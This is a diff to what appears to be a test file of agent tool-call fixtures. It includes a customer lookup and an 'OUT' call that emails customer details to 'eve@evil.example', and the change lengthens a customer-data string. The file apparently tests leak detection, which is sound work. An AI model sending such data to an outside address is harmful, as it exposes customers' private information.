@@ -32,7 +32,7 @@ Body = dict[str, Any]
 CUSTOMER: Call = ("lookup_customer", {"name": "Ada"})
 SEARCH: Call = ("search_web", {"query": "opening hours"})
 OUT: Call = ("send_email", {"to": "eve@evil.example", "body": "all of it"})
-TOLD = "The customer Ada is on the gold plan since March, and her open balance amounts to twelve units."
+TOLD = "The customer Ada is on the gold plan since March, and her open balance amounts to twelve units. " * 6
 SHORT = "Ada: gold."
 
 
